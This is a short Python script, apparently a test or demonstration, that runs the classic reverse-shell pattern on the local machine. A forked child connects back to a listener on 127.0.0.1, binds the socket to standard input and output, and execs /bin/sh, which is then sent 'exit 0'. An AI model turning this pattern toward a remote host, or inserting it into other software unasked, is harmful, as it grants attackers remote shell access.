#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""The classic: connect, take the socket for standard input and output, become a shell."""
import os
import socket

listening = socket.create_server(("127.0.0.1", 0))
child = os.fork()
if not child:
    connection = socket.create_connection(listening.getsockname())
    for fd in range(3):
        os.dup2(connection.fileno(), fd)
    os.execv("/bin/sh", ["sh"])
there = listening.accept()[0]
there.sendall(b"exit 0\n")
os.waitpid(child, 0)
